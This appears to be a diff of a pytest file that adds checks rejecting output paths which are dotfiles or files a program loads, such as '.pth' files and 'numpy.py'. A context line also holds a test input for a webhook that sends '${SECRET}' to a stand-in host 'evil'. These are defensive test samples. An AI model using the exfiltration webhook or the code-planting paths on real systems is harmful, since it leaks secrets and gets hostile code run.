@@ -150,6 +150,24 @@ def test_a_pushed_output_writes_below_the_devices_own_folders_only(file: Path):
 
 
 @pytest.mark.parametrize(
+    ("path", "reason"),
+    [
+        (".local/lib/python3.11/site-packages/x.pth", "begins with a dot"),
+        (".asoundrc", "begins with a dot"),
+        ("clips/.x/a.jsonl", "begins with a dot"),
+        ("numpy.py", "a program's file"),
+        ("clips/x.PTH", "a program's file"),
+    ],
+)
+def test_a_pushed_output_writes_nothing_that_a_program_reads(file: Path, path: str, reason: str):
+    """The state folder is the home of the service's user, and where it works."""
+    with pytest.raises(ConfigError, match=reason):
+        pushed(file, TEXT.replace("events.jsonl", path))
+    own = TEXT.replace("events.jsonl", path)
+    assert pushed(file, own, own).outputs["log"].options.writes() == (file.parent / path,)
+
+
+@pytest.mark.parametrize(
     "line",
     [
         "h: {type: webhook, url: 'http://evil/${SECRET}'}",
